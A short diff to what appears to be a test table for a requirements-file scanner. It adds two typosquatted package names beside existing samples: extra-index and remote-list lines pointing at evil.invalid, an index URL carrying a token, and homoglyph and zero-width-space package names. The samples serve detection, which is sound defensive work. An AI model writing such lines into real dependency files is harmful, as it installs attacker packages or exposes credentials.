@@ -30,6 +30,8 @@ LINES: dict[str, tuple[str, str, str]] = {
               "-i https://${USER}:${TOKEN}@pypi.org/simple", "medium"),
     "remote-list": ("-r https://evil.invalid/base.txt", "x==1.0", "medium"),
     "name": ("nump\u0443==1.0", "numpy==1.26.4", "high"),
+    "name-like-another": ("tensorfow==2.19.0", "tensorflow==2.19.0", "medium"),
+    "name-that-looks-alike": ("scikit-leam==1.7.2", "scikit-learn==1.7.2", "medium"),
     "unseen-letter": ("num\u200bpy==1.0", "numpy==1.26.4", "high"),
     "continued": ("--extra-index-url \\\n  https://evil.invalid/simple", "x==1.0 \\\n  # y",
                   "medium"),
